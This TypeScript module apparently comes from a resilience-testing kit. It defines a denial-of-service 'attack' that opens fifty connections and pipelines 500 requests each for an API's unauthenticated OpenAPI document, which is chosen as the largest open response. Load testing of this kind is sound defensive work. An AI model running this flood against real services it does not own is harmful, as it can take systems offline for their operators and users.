import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

/** The document of the API is the largest answer that opens without a key. */
export const attack: Attack = {
  name: 'fifty connections of pipelined requests for open pages',
  async run(target) {
    const wire = head('GET /openapi.json').repeat(500);
    const sockets = await target.many(50);
    for (const socket of sockets) socket.resume();
    await Promise.all(sockets.map((socket) => target.flood(socket, wire)));
  },
};
